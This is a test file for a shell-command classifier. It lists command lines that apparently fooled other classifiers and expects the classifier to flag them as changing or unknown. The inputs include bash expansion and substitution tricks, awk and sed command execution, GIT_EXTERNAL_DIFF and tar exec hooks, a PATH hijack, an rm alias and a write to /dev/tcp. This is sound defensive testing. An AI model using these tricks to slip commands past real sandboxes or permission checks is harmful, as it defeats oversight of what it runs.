import { describe, expect, it } from "vitest";
import { loadShell } from "../../../src/classify/shell/classify-shell.ts";

/**
 * Command lines that fooled other classifiers, with the effect that a sandbox saw. A read-only one
 * must be called so; any other must not be, whichever of the two other answers it gets.
 */
const READS: readonly string[] = [
  "find . -name '-delete'",
  "find . -name '*.ts' -exec grep -l foo {} +",
  "sed 's/a/woutput/' file",
  "sort -- -o output",
  "awk '$1 > 2' a.txt",
  "awk '/a|b/ { print $1 | \"sort\" }' a.txt",
  "git log -- --output=log.out",
  "git branch --list --color=always topic",
  "git status",
  "rg -- -z file",
  "cat <<'EOF'\nrm -rf /\nEOF",
  "ls > /dev/null",
  "echo 2>&1",
  "xargs -0 -n1 echo < list.txt",
  "gh api -X GET search/issues -f q=x",
  "curl -G -d q=x https://api.example.com/search",
  "bash -c 'cat a.txt | head -1'",
  "kill -0 123",
  "nohup ls",
  'sqlite3 app.db "select * from t"',
];

const CHANGES: readonly string[] = [
  "uniq names.txt deduped.txt",
  String.raw`find . \-delete`,
  String.raw`find . -delet\e -name x.tmp`,
  "find . {-delete,-print}",
  "find . -fprint matches",
  String.raw`find . -type f -ok rm {} \;`,
  "sed -n 1p -ewout.sed",
  "sed -n 1p -fscript.w.sed",
  "sed -n 'w out.txt' a.txt",
  "sed 's#a#printf hacked > marker#pe' file",
  "sed -ni.bak 's/a/b/' file",
  "sort -uo out.txt a.txt",
  "sort {-o,output} input",
  "tree -o tree.txt",
  'awk \'BEGIN { fn = "system"; @fn("touch /tmp/pwned") }\'',
  'awk \'BEGIN{f="out.txt";print "x">f}\'',
  "awk -i inplace '{print}' a.txt",
  "git diff --output=patch",
  "git branch -v verbose-topic",
  "GIT_EXTERNAL_DIFF='touch /tmp/pwned' git diff",
  "git hash-object -w a.txt",
  "git commit -m --help",
  "git add -- --dry-run",
  'echo "${one="$"}${two="$one(touch /tmp/pwned)"}${two@P}"',
  "cat <<EOF\n$(rm target)\nEOF",
  "cat < <(rm target)",
  "FOO=$(rm target)",
  "[[ -v a[$(touch out.txt; echo 0)] ]]",
  "echo $((x=$(touch out.txt; echo 1)))",
  String.raw`$'\x72m' a.txt`,
  'r"m" a.txt',
  String.raw`\rm a.txt`,
  "ls() { touch out.txt; }; ls",
  "alias ls='rm -rf'",
  "export PATH=/tmp/evil:$PATH",
  "printf -v PATH /tmp; ls",
  "echo x > /dev/tcp/10.0.0.1/80",
  "echo >& out",
  "cat a.txt | tee -a b.txt > /dev/null",
  'find . -name "*.ts" | xargs rm',
  "env -S 'touch out.txt'",
  "tar -cf /dev/null --checkpoint=1 --checkpoint-action=exec='touch x' a.txt",
  "gh api repos/o/r/issues -f title=x",
  "curl -d a=b https://api.example.com",
  "curl -c jar.txt https://example.com",
  "python -m json.tool a.json b.json",
  "file -C -m magic",
  "journalctl --vacuum-time=1d",
  "hostname newname",
  'date --set="2023-01-01"',
  "base64 -ob64.txt",
];

/** Nobody can tell what these do. */
const UNKNOWN: readonly string[] = [
  'sed "s/foo/bar/e" file.txt',
  "sort --compress-program=./x a.txt",
  "git -c core.fsmonitor=./x status",
  "git grep -O./x foo",
  "rg --pre ./x foo",
  "cat <> file",
  "curl -K cfg.txt",
  'bash -c "$X"',
];

const classify = await loadShell();
const judge = (command: string): string =>
  classify(command, {
    cwd: "/srv/project",
    home: "/home/dev",
    judgeSql: () => ({ verdict: "read-only", accesses: [] }),
  }).verdict;

describe("the traps that fooled other classifiers", () => {
  it.each(READS)("%j only reads", (command) => {
    expect(judge(command)).toBe("read-only");
  });

  it.each(CHANGES)("%j is not read-only", (command) => {
    expect(judge(command)).not.toBe("read-only");
  });

  it.each(UNKNOWN)("%j cannot be told", (command) => {
    expect(judge(command)).not.toBe("read-only");
  });
});
